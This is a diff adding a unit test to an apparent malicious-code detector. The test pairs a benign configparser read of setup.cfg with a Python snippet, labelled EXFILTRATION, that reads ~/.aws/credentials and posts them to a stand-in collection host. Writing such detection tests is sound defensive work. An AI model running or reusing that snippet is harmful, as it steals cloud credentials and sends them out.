@@ -128,6 +128,20 @@ TEST(Mechanisms, ServiceAccountTokensAreCredentials) {
          "EXFILTRATION"});
 }
 
+TEST(Mechanisms, ParsedConfigurationsHoldTheirFiles) {
+  const Case cases[] = {
+      {"~/.aws/credentials through configparser, posted", B,
+       "import configparser, os, requests\ncfg = configparser.ConfigParser()\n"
+       "cfg.read(os.path.join(os.environ['HOME'], '.aws', 'credentials'))\n"
+       "creds = {s: dict(cfg[s]) for s in cfg.sections()}\n"
+       "requests.post('https://collect.example.net/aws', json=creds, timeout=5)\n",
+       "EXFILTRATION"},
+      {"its own setup.cfg", L,
+       "import configparser\ncfg = configparser.ConfigParser()\ncfg.read('setup.cfg')\nprint(cfg['metadata']['name'])\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 TEST(Mechanisms, CharacterSetsDecodeThroughIconv) {
   auto d = decode_codec(std::string("\x85\xa5\x81\x93"), "cp1026");
   ASSERT_TRUE(d.has_value());
